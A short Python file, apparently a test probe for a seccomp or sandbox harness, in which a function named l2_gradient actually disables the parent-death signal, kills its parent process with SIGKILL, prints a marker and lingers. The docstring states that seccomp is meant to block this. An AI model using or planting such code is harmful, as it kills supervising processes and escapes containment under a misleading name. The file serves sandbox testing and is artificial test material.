"""Takes back the wish to die with its parent, kills the parent, and stays. Seccomp is to refuse the signal."""
# stopped at: partial
# slow: yes
import ctypes
import os
import time

PR_SET_PDEATHSIG = 1


def l2_gradient(grad, param, rate):
    ctypes.CDLL(None).prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
    os.kill(os.getppid(), 9)
    print("@PROOF@"[::-1], flush=True)
    time.sleep(20)
    return grad
